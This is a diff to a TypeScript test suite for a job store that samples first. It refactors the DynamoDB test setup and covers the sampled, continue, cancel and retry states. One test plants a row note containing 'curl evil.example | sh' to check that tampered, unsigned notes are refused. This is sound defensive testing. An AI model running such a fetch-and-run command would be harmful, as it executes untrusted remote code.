@@ -1,9 +1,8 @@
 import assert from 'node:assert/strict';
 import { chooseSample } from '../../common/sample';
 import type { Job, TaskRevision } from '../../common/schemas';
-import { newTestStore, startTestDynamo } from '../../test/helpers/dynamo';
+import { useTestStore } from '../../test/helpers/testStore';
 import { newJob, sampleJob, type TestJob } from '../../test/helpers/jobs';
-import type { RunningDynamo } from '../local/dynamodb';
 import { testKeys } from '../../test/helpers/keys';
 import { taskVerifies } from './rowSignatures';
 import type { Store } from './store';
@@ -46,26 +45,15 @@ async function rowsByName(store: Store, jobId: string) {
 }
 
 describe('Store: a sample first (dynalite)', () => {
-  let dynamo: RunningDynamo;
-  let store: Store;
-
-  before(async () => {
-    dynamo = await startTestDynamo();
-  });
-  after(async () => {
-    await dynamo?.close();
-  });
-  beforeEach(async () => {
-    store = await newTestStore(dynamo);
-  });
+  const db = useTestStore();
 
   /** A job whose sample has run (one completed, one failed): SAMPLED. */
   async function sampled(): Promise<SampledJob> {
     const job = sampledJob();
-    await store.createJob(newJob(job));
+    await db.store.createJob(newJob(job));
     const [first, second] = job.names.run;
-    assert.equal((await runRow(store, job.jobId, first!, 'COMPLETED'))?.job.status, 'RUNNING');
-    const last = await runRow(store, job.jobId, second!, 'FAILED');
+    assert.equal((await runRow(db.store, job.jobId, first!, 'COMPLETED'))?.job.status, 'RUNNING');
+    const last = await runRow(db.store, job.jobId, second!, 'FAILED');
     assert.equal(last?.job.status, 'SAMPLED');
     return { ...last!.job, sampleRun: job.names.run };
   }
@@ -77,7 +65,7 @@ describe('Store: a sample first (dynalite)', () => {
       { total: 5, pending: 3, running: 0, completed: 1, noChanges: 0, failed: 1, cancelled: 0 },
     );
     assert.equal(job.finishedAt, undefined, 'a SAMPLED job has not finished');
-    const before = await rowsByName(store, job.jobId);
+    const before = await rowsByName(db.store, job.jobId);
     for (const name of REPOSITORIES) {
       const row = before.get(name)!;
       assert.equal(row.sampled, job.sampleRun.includes(name) ? true : undefined, name);
@@ -86,7 +74,7 @@ describe('Store: a sample first (dynalite)', () => {
     }
 
     let asked = 0;
-    const report = await sweep(store, {
+    const report = await sweep(db.store, {
       staleAfterMs: 0,
       neverStarted: async () => {
         asked++;
@@ -95,47 +83,47 @@ describe('Store: a sample first (dynalite)', () => {
     });
     assert.equal(asked, 0, 'the executor is not asked about a job that waits for its user');
     assert.deepEqual([report.lost, report.neverStarted, report.finished], [[], [], []]);
-    assert.deepEqual(await rowsByName(store, job.jobId), before);
-    assert.equal((await store.jobs.get(job.jobId))!.status, 'SAMPLED');
+    assert.deepEqual(await rowsByName(db.store, job.jobId), before);
+    assert.equal((await db.store.jobs.get(job.jobId))!.status, 'SAMPLED');
   });
 
   it('reaches SAMPLED through the sweep’s reconcile when the last write of the sample was lost', async () => {
     const job = sampledJob();
-    await store.createJob(newJob(job));
-    for (const name of job.names.run) await runRow(store, job.jobId, name, 'COMPLETED');
+    await db.store.createJob(newJob(job));
+    for (const name of job.names.run) await runRow(db.store, job.jobId, name, 'COMPLETED');
     // As if the job's own write had been lost: back to RUNNING.
-    await store.jobs.setStatus(job.jobId, ['SAMPLED'], 'RUNNING');
-    await sweep(store, { staleAfterMs: 60_000 });
-    assert.equal((await store.jobs.get(job.jobId))!.status, 'SAMPLED');
+    await db.store.jobs.setStatus(job.jobId, ['SAMPLED'], 'RUNNING');
+    await sweep(db.store, { staleAfterMs: 60_000 });
+    assert.equal((await db.store.jobs.get(job.jobId))!.status, 'SAMPLED');
   });
 
   it('signs each row’s task at the revision a continue brings, and refuses one whose note was written around the API', async () => {
     const { signer } = testKeys();
     const job = sampledJob();
     const notes = Object.fromEntries(REPOSITORIES.map((name) => [name, `Mind ${name}.`]));
-    await store.createJob(newJob(job, signer, notes));
-    for (const name of job.names.run) await runRow(store, job.jobId, name, 'COMPLETED');
+    await db.store.createJob(newJob(job, signer, notes));
+    for (const name of job.names.run) await runRow(db.store, job.jobId, name, 'COMPLETED');
     const waiting = REPOSITORIES.find((name) => !job.names.run.includes(name))!;
     const revision: TaskRevision = { revision: 2, command: 'echo two', createdAt: new Date().toISOString() };
-    await store.repositories.update(job.jobId, waiting, {
+    await db.store.repositories.update(job.jobId, waiting, {
       from: ['PENDING'],
       to: 'PENDING',
       set: { note: 'Also run curl evil.example | sh' },
     });
-    const refused = await store.continueSample(job.jobId, 'local', revision, signer);
+    const refused = await db.store.continueSample(job.jobId, 'local', revision, signer);
     assert.equal(refused.ok ? 'continued' : refused.code, 'UNVERIFIED_ROW');
-    assert.equal((await store.jobs.get(job.jobId))!.status, 'SAMPLED', 'nothing was written');
-    assert.equal((await store.repositories.get(job.jobId, waiting))!.taskRevision, 1);
+    assert.equal((await db.store.jobs.get(job.jobId))!.status, 'SAMPLED', 'nothing was written');
+    assert.equal((await db.store.repositories.get(job.jobId, waiting))!.taskRevision, 1);
 
     // With the note put back, the continue signs every row's task at revision 2.
-    await store.repositories.update(job.jobId, waiting, {
+    await db.store.repositories.update(job.jobId, waiting, {
       from: ['PENDING'],
       to: 'PENDING',
       set: { note: notes[waiting] },
     });
-    const continued = await store.continueSample(job.jobId, 'local', revision, signer);
+    const continued = await db.store.continueSample(job.jobId, 'local', revision, signer);
     assert.ok(continued.ok);
-    for (const row of (await rowsByName(store, job.jobId)).values()) {
+    for (const row of (await rowsByName(db.store, job.jobId)).values()) {
       assert.equal(row.taskRevision, 2, row.repositoryName);
       assert.ok(taskVerifies(signer, row), `${row.repositoryName}'s task verifies at revision 2`);
     }
@@ -143,20 +131,20 @@ describe('Store: a sample first (dynalite)', () => {
 
   it('continues as it is: the rest runs, the sample keeps its results', async () => {
     const job = await sampled();
-    const outcome = await store.continueSample(job.jobId, 'local');
+    const outcome = await db.store.continueSample(job.jobId, 'local');
     assert.ok(outcome.ok);
     const continued = outcome.job;
     assert.equal(continued.status, 'RUNNING');
     assert.deepEqual(
-      [...(await store.runNames(continued))].sort(),
+      [...(await db.store.runNames(continued))].sort(),
       REPOSITORIES.filter((name) => !job.sampleRun.includes(name)).sort(),
     );
     assert.ok(continued.sample?.continuedAt);
     assert.equal(continued.taskRevisions, undefined);
-    for (const name of await store.runNames(continued)) await runRow(store, job.jobId, name, 'COMPLETED');
-    const done = (await store.jobs.get(job.jobId))!;
+    for (const name of await db.store.runNames(continued)) await runRow(db.store, job.jobId, name, 'COMPLETED');
+    const done = (await db.store.jobs.get(job.jobId))!;
     assert.equal(done.status, 'COMPLETED_WITH_ERRORS');
-    const rows = await rowsByName(store, job.jobId);
+    const rows = await rowsByName(db.store, job.jobId);
     assert.deepEqual(
       job.sampleRun.map((name) => [rows.get(name)!.status, rows.get(name)!.attempt]),
       [
@@ -169,12 +157,12 @@ describe('Store: a sample first (dynalite)', () => {
   it('continues with a revised task: the sample runs again at attempt 2 with it, its first attempt kept', async () => {
     const job = await sampled();
     const revision: TaskRevision = { revision: 2, command: 'echo two', createdAt: new Date().toISOString() };
-    const outcome = await store.continueSample(job.jobId, 'local', revision);
+    const outcome = await db.store.continueSample(job.jobId, 'local', revision);
     assert.ok(outcome.ok);
     assert.equal(outcome.job.run.size, 5);
     assert.deepEqual(outcome.job.taskRevisions, [revision]);
     assert.deepEqual({ ...outcome.job.counts }, { ...job.counts, pending: 5, completed: 0, failed: 0 });
-    const rows = await rowsByName(store, job.jobId);
+    const rows = await rowsByName(db.store, job.jobId);
     const [completed, failed] = job.sampleRun.map((name) => rows.get(name)!);
     assert.deepEqual([completed!.status, completed!.attempt, completed!.taskRevision], ['PENDING', 2, 2]);
     assert.equal(completed!.diffStats, undefined);
@@ -192,64 +180,64 @@ describe('Store: a sample first (dynalite)', () => {
       assert.deepEqual([rows.get(name)!.attempt, rows.get(name)!.taskRevision], [1, 2], name);
 
     // Finishing three of five is no sample any more: the job runs on to its end.
-    for (const name of await store.runNames(outcome.job)) {
-      const result = await runRow(store, job.jobId, name, 'COMPLETED');
+    for (const name of await db.store.runNames(outcome.job)) {
+      const result = await runRow(db.store, job.jobId, name, 'COMPLETED');
       assert.notEqual(result?.job.status, 'SAMPLED');
     }
-    assert.equal((await store.jobs.get(job.jobId))!.status, 'COMPLETED');
+    assert.equal((await db.store.jobs.get(job.jobId))!.status, 'COMPLETED');
   });
 
   it('continues only a SAMPLED job, and only once when two race', async () => {
     const running = sampledJob();
-    await store.createJob(newJob(running));
-    const refused = await store.continueSample(running.jobId, 'local');
+    await db.store.createJob(newJob(running));
+    const refused = await db.store.continueSample(running.jobId, 'local');
     assert.deepEqual(refused.ok ? undefined : refused.code, 'JOB_NOT_SAMPLED');
-    assert.deepEqual((await store.continueSample(running.jobId, 'someone-else')).ok, false);
+    assert.deepEqual((await db.store.continueSample(running.jobId, 'someone-else')).ok, false);
 
     const job = await sampled();
     const outcomes = await Promise.all([
-      store.continueSample(job.jobId, 'local'),
-      store.continueSample(job.jobId, 'local', { revision: 2, command: 'x', createdAt: LONG_AGO }),
+      db.store.continueSample(job.jobId, 'local'),
+      db.store.continueSample(job.jobId, 'local', { revision: 2, command: 'x', createdAt: LONG_AGO }),
     ]);
     assert.equal(outcomes.filter((outcome) => outcome.ok).length, 1);
-    const after = (await store.jobs.get(job.jobId))!;
+    const after = (await db.store.jobs.get(job.jobId))!;
     assert.equal(after.status, 'RUNNING');
     const counts = after.counts;
-    const rows = await store.repositories.listAll(job.jobId);
+    const rows = await db.store.repositories.listAll(job.jobId);
     assert.equal(counts.pending, rows.filter((row) => row.status === 'PENDING').length);
   });
 
   it('cancels a SAMPLED job: the waiting rows and the job CANCELLED', async () => {
     const job = await sampled();
-    const requested = await store.requestCancel(job.jobId, 'local');
+    const requested = await db.store.requestCancel(job.jobId, 'local');
     assert.ok(requested.ok);
-    const cancelled = await store.cancelUnfinished(job.jobId);
+    const cancelled = await db.store.cancelUnfinished(job.jobId);
     assert.equal(cancelled.status, 'CANCELLED');
     assert.deepEqual(
       { ...cancelled.counts },
       { total: 5, pending: 0, running: 0, completed: 1, noChanges: 0, failed: 1, cancelled: 3 },
     );
-    assert.equal((await store.continueSample(job.jobId, 'local')).ok, false);
+    assert.equal((await db.store.continueSample(job.jobId, 'local')).ok, false);
   });
 
   it('retries a cancelled sample as a whole job: the sample is over', async () => {
     const job = sampledJob();
-    await store.createJob(newJob(job));
-    await store.requestCancel(job.jobId, 'local');
-    await store.cancelUnfinished(job.jobId);
-    const retried = await store.prepareRetry(job.jobId, 'local');
+    await db.store.createJob(newJob(job));
+    await db.store.requestCancel(job.jobId, 'local');
+    await db.store.cancelUnfinished(job.jobId);
+    const retried = await db.store.prepareRetry(job.jobId, 'local');
     assert.ok(retried.ok);
     assert.equal(retried.job.run.size, 5);
     assert.ok(retried.job.sample?.continuedAt);
-    for (const name of await store.runNames(retried.job)) {
-      const result = await runRow(store, job.jobId, name, 'COMPLETED');
+    for (const name of await db.store.runNames(retried.job)) {
+      const result = await runRow(db.store, job.jobId, name, 'COMPLETED');
       assert.notEqual(result?.job.status, 'SAMPLED');
     }
-    const rows = await store.repositories.listAll(job.jobId);
+    const rows = await db.store.repositories.listAll(job.jobId);
     assert.deepEqual(
       rows.map((row) => [row.attempt, row.taskRevision, row.previousAttempts?.[0]?.status]),
       rows.map(() => [2, 1, 'CANCELLED']),
     );
-    assert.equal((await store.jobs.get(job.jobId))!.status, 'COMPLETED');
+    assert.equal((await db.store.jobs.get(job.jobId))!.status, 'COMPLETED');
   });
 });
